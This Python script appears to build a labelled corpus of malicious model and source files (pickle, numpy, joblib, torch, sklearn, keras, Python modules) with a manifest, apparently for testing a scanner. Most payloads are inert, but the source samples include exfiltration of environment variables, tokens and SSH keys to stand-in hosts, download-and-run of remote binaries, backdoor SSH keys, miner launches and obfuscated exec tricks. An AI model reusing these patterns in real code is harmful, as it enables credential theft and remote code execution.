"""Writes malicious files as the libraries themselves write them, and a manifest.

    python malicious_made.py FOLDER

Objects whose `__reduce__` names a function are only ever dumped, never loaded; payloads are inert.
"""
import base64, bz2, functools, gzip, io, json, lzma, operator, os, pathlib, pickle, subprocess, sys, zipfile, zlib

import importlib, runpy, shutil, socket, webbrowser, code, pty, pdb, timeit, cProfile, ctypes, urllib.request, asyncio, multiprocessing, types, marshal

folder = pathlib.Path(sys.argv[1])
rows = []


def put(path, data, verdict="malicious"):
    target = folder / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data if isinstance(data, bytes) else data.encode())
    rows.append({"path": path, "verdict": verdict, "technique": path.split("/")[0]})


def note(path, verdict="malicious"):
    rows.append({"path": path, "verdict": verdict, "technique": path.split("/")[0]})


class Evil:
    """Pickles as a call; never unpickled here."""

    def __init__(self, function, *args):
        self.value = (function, args)

    def __reduce__(self):
        return self.value


class Stateful:
    def __init__(self, function, *args):
        self.value = (dict, (), None, None, iter([(Evil(function, *args), 1)]))

    def __reduce__(self):
        return self.value


CALLS = {
    "system": (os.system, "echo inert"), "popen": (os.popen, "echo inert"), "run": (subprocess.run, ["echo", "inert"]), "Popen": (subprocess.Popen, ("sh", "-c", "echo inert")), "check_output": (subprocess.check_output, "echo inert"), "eval": (eval, "1+1"), "exec": (exec, "pass"), "compile": (compile, "1", "a", "eval"), "import": (__import__, "os"), "open": (open, "/tmp/inert", "w"), "getattr": (getattr, os, "system") if False else (importlib.import_module, "os"), "run_path": (runpy.run_path, "/tmp/x.py"), "rmtree": (shutil.rmtree, "/tmp/none"), "socket": (socket.create_connection, ("127.0.0.1", 1)), "webbrowser": (webbrowser.open, "http://x"), "interact": (code.interact,), "spawn": (pty.spawn, "/bin/true"), "pdb": (pdb.run, "1"), "timeit": (timeit.timeit, "1"), "profile": (cProfile.run, "1"), "cdll": (ctypes.CDLL, "libc.so.6"), "urlopen": (urllib.request.urlopen, "http://127.0.0.1"), "asyncio": (asyncio.run, None), "process": (multiprocessing.Process,), "marshal": (marshal.loads, b"a"), "loads": (pickle.loads, b"N."), "remove": (os.remove, "/tmp/none"), "environ": (os.getenv, "HOME"), "execv": (os.execv, "/bin/true", ["true"]), "fork": (os.fork,), "chmod": (os.chmod, "/tmp/none", 0o777), "partial": (functools.partial, os.system, "echo inert"), "reduce": (functools.reduce, operator.add, [1]), "methodcaller": (operator.methodcaller, "system", "x"), "attrgetter": (operator.attrgetter, "system"),
}


def plain():
    for name, (function, *args) in CALLS.items():
        evil = Evil(function, *args)
        for protocol in range(6):
            put(f"made/{name}.p{protocol}.pkl", pickle.dumps({"weights": [1.0] * 20, "hook": evil}, protocol=protocol))
        put(f"made/{name}.deep.pkl", pickle.dumps([{"a": ({"b": [evil]},)}]))
        put(f"made/{name}.stateful.pkl", pickle.dumps(Stateful(function, *args)))
    kept = {"partial": functools.partial(os.system, "echo inert"), "partial_eval": functools.partial(eval, "1"), "caller": operator.methodcaller("system", "x"), "functions": [os.system, eval], "method": shutil.rmtree, "nested": {"callbacks": {"on_end": subprocess.call}}}
    for name, value in kept.items():
        for protocol in (0, 2, 4, 5):
            put(f"kept/{name}.p{protocol}.pkl", pickle.dumps(value, protocol=protocol))


def numeric():
    import joblib
    import numpy as np
    import pandas as pd
    for name in ("system", "exec", "run", "import"):
        function, *args = CALLS[name]
        evil = Evil(function, *args)
        holder = np.empty(3, dtype=object); holder[1] = evil
        out = io.BytesIO(); np.save(out, holder, allow_pickle=True); put(f"numpy/{name}.npy", out.getvalue())
        out = io.BytesIO(); np.savez_compressed(out, a=np.zeros(3), b=holder); put(f"numpy/{name}.npz", out.getvalue())
        for compressor in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
            out = io.BytesIO()
            try:
                joblib.dump({"model": np.zeros((50, 50)), "x": evil}, out, compress=(compressor, 3)); put(f"joblib/{name}.{compressor}.joblib", out.getvalue())
            except ValueError as error:
                print("no", compressor, error)
        out = io.BytesIO(); joblib.dump([np.zeros((50, 50)), np.ones(5), evil, np.zeros(9)], out); put(f"joblib/{name}.joblib", out.getvalue())
        out = io.BytesIO(); joblib.dump({"a": holder, "b": np.zeros(100)}, out); put(f"joblib/{name}.object.joblib", out.getvalue())
        frame = pd.DataFrame({"a": [1, 2, 3], "b": [evil, None, "x"]})
        (folder / "pandas").mkdir(parents=True, exist_ok=True)
        for ending in ("pkl", "pkl.gz", "pkl.bz2", "pkl.xz", "pkl.zip", "pkl.tar", "pkl.zst"):
            try:
                frame.to_pickle(folder / f"pandas/{name}.{ending}"); note(f"pandas/{name}.{ending}")
            except ImportError as error:
                print("no", ending, error)


def estimators():
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler
    for name in ("system", "eval", "exec", "popen", "run"):
        function, *args = CALLS[name]
        put(f"sklearn/function_{name}.pkl", pickle.dumps(make_pipeline(StandardScaler(), FunctionTransformer(function))))
        model = LogisticRegression(); model.hook_ = Evil(function, *args)
        put(f"sklearn/attribute_{name}.pkl", pickle.dumps(model))
        try:
            import skops.io
            put(f"skops/function_{name}.skops", skops.io.dumps(make_pipeline(FunctionTransformer(function))))
        except Exception as error:
            print("no skops", name, error)


def tensors():
    import torch
    (folder / "torch").mkdir(parents=True, exist_ok=True)
    for name, (function, *args) in list(CALLS.items())[:16]:
        for legacy in (True, False):
            value = {"state_dict": {"w": torch.zeros(3, 4)}, "extra": Evil(function, *args)}
            path = f"torch/{name}_{'legacy' if legacy else 'zip'}.pt"
            torch.save(value, folder / path, _use_new_zipfile_serialization=not legacy); note(path)


def by_value():
    for library in ("cloudpickle", "dill"):
        try:
            module = importlib.import_module(library)
        except ImportError:
            continue
        values = {"lambda": lambda: os.system("echo inert"), "closure": (lambda command: lambda: subprocess.run(command))(["echo"]), "quiet": lambda x: x + 1}
        for name, value in values.items():
            put(f"byvalue/{library}_{name}.pkl", module.dumps(value), "suspicious" if name == "quiet" else "malicious")
        put(f"byvalue/{library}_model.zip", (lambda out: (zipfile.ZipFile(out, "w").writestr("python_model.pkl", module.dumps(values["lambda"])), out.getvalue())[1])(io.BytesIO()))


def kerases():
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras
    (folder / "keras").mkdir(parents=True, exist_ok=True)

    @keras.saving.register_keras_serializable("acme")
    class Odd(keras.layers.Layer):
        def call(self, x): return x

    models = {"lambda": (keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2), keras.layers.Dense(1)]), "malicious"), "custom": (keras.Sequential([keras.Input((4,)), Odd(), keras.layers.Dense(1)]), "suspicious")}
    for name, (model, verdict) in models.items():
        for ending in ("keras", "h5"):
            try:
                model.save(folder / f"keras/{name}.{ending}"); note(f"keras/{name}.{ending}", verdict)
            except Exception as error:
                print("no", name, ending, error)
        put(f"keras/{name}.json", model.to_json(), verdict)


SOURCES = {
    "modules": "import sys\nsys.modules['os'].system('echo inert')\n", "dict": "import os\nos.__dict__['system']('echo inert')\n", "vars": "import os\nvars(os)['system']('echo inert')\n", "attrgetter": "import os, operator\noperator.attrgetter('system')(os)('echo inert')\n", "import_module": "from importlib import import_module as i\ni('os').system('echo inert')\n", "nested_import": "__import__('importlib').import_module('subprocess').call('echo inert', shell=True)\n", "builtins_dict": "import builtins\nbuiltins.__dict__['eval']('1')\n", "join_names": "getattr(__import__('bui' + 'ltins'), ''.join(['ev', 'al']))('1')\n", "format_name": "getattr(__import__('o{}'.format('s')), '%stem' % 'sys')('echo inert')\n", "b85": "import base64\nexec(base64.b85decode('ab'))\n", "gzip": "import gzip, base64\nexec(gzip.decompress(base64.b64decode('H4sI')))\n", "lzma": "import lzma\nexec(lzma.decompress(b'x'))\n", "compile_b64": "import base64\nexec(compile(base64.b64decode('cHJpbnQoMSk='), '<s>', 'exec'))\n", "pickle_literal": "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"echo inert\"\\ntR.')\n", "pickle_b64": "import pickle, base64\nx = base64.b64decode('gASV')\npickle.loads(x)\n", "retrieve": "import urllib.request, os\nurllib.request.urlretrieve('http://203.0.113.7/a', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')\n", "tempfile": "import tempfile, subprocess\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'x')\nsubprocess.Popen(['python', f.name])\n", "getoutput": "import subprocess\nprint(subprocess.getoutput('whoami'))\n", "init_class": "class Meta(type):\n    def __new__(c, n, b, d):\n        import os\n        os.system('echo inert')\n        return type.__new__(c, n, b, d)\nclass A(metaclass=Meta):\n    pass\n", "default": "import os\ndef f(x=os.system('echo inert')):\n    return x\n", "try": "try:\n    import os as _o\n    _o.popen('echo inert')\nexcept Exception:\n    pass\n", "with": "import subprocess\nwith subprocess.Popen('echo inert', shell=True) as p:\n    p.wait()\n", "conditional": "import os, platform\nif platform.system() == 'Linux':\n    os.system('echo inert')\n", "lambda_call": "(lambda: __import__('os').system('echo inert'))()\n", "map": "import os\nlist(map(os.system, ['echo inert']))\n", "partial": "import os, functools\nfunctools.partial(os.system, 'echo inert')()\n", "atexit": "import atexit, os\natexit.register(os.system, 'echo inert')\n", "timer": "import threading, os\nthreading.Timer(1, lambda: os.system('echo inert')).start()\n", "async": "import asyncio\nasync def main():\n    await asyncio.create_subprocess_exec('echo', 'inert')\nasyncio.run(main())\n", "env_post": "import os, urllib.request, json\nurllib.request.urlopen('https://api.example.org/c', data=json.dumps(dict(os.environ)).encode())\n", "socket_send": "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('198.51.100.3', 9001))\ns.sendall(os.environ['TOKEN'].encode())\n", "ssh_key": "from pathlib import Path\nkey = Path('~/.ssh/id_rsa').expanduser().read_text()\nimport requests\nrequests.post('https://example.org', data=key)\n", "netrc": "open('/home/user/.netrc').read()\n", "authorized": "with open('/root/.ssh/authorized_keys', 'a') as f: f.write('ssh-rsa inert')\n", "systemd": "import os\nos.system('systemctl enable inert.service')\n", "mining": "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'pool.example.org:3333'])\n", "docker": "import os\nos.system('docker run --privileged -v /:/host inert')\n", "eval_input": "def handle(data, context):\n    return eval(data[0]['body'])\n", "exec_env": "import os\nexec(os.environ['PAYLOAD'])\n", "ctypes_shell": "import ctypes\nbuf = ctypes.create_string_buffer(b'x')\nctypes.CDLL(None).system(b'echo inert')\n", "mmap": "import ctypes, mmap\nctypes.memmove(0, b'x', 1)\nctypes.CFUNCTYPE(ctypes.c_int)(0)()\n", "fromhex": "import subprocess\nsubprocess.run(bytes.fromhex('6563686f').decode(), shell=True)\n", "ord": "import os\nos.system(''.join(map(chr, [101, 99, 104, 111])))\n", "xor": "data = bytes(b ^ 7 for b in b'abc')\nexec(data)\n", "importer": "import importlib.util\ns = importlib.util.spec_from_file_location('x', '/tmp/x.py')\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n", "types_module": "import types\nm = types.ModuleType('m')\nexec('import os', m.__dict__)\nm.os.system('echo inert')\n", "setattr": "import os, builtins\nsetattr(builtins, 'print', os.system)\nprint('echo inert')\n", "code_run": "import code\ncode.InteractiveInterpreter().runsource('1')\n", "yaml": "import yaml, os\nyaml.load(open('x'), Loader=yaml.Loader)\nos.system('echo inert')\n", "torch_hub": "import torch\ntorch.hub.load('evil/repo', 'model', trust_repo=True)\nimport os; os.system('echo inert')\n", "base_exec_class": "import base64\nclass M:\n    def forward(self, x):\n        exec(base64.b64decode(self.payload))\n        return x\n", "pip": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://203.0.113.7/simple', 'evil'])\n", "os_exec": "import os\nos.execvp('sh', ['sh', '-c', 'echo inert'])\n", "posix": "import posix\nposix.system('echo inert')\n", "rev": "import os; os.system('inert ohce'[::-1])\n", "win": "import os\nos.startfile('calc.exe')\n", "vbs": "import subprocess\nsubprocess.call('mshta http://198.51.100.3/a.hta')\n",
}


def sources():
    for name, text in SOURCES.items():
        put(f"source/{name}.py", text)
        put(f"source/{name}/modeling_custom.py", "import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\n\nclass Custom(PreTrainedModel):\n    def forward(self, x):\n        return x\n\n\n" + text)
        put(f"source/{name}.zip", (lambda out: (zipfile.ZipFile(out, "w").writestr("pkg/handler.py", text), out.getvalue())[1])(io.BytesIO()))


folder.mkdir(parents=True, exist_ok=True)
for make in (plain, numeric, estimators, tensors, by_value, kerases, sources):
    try:
        make()
    except ImportError as error:
        print("skipped", make.__name__, error)
    print(make.__name__, len(rows))
(folder / "manifest.jsonl").write_text("\n".join(json.dumps(row) for row in rows) + "\n")
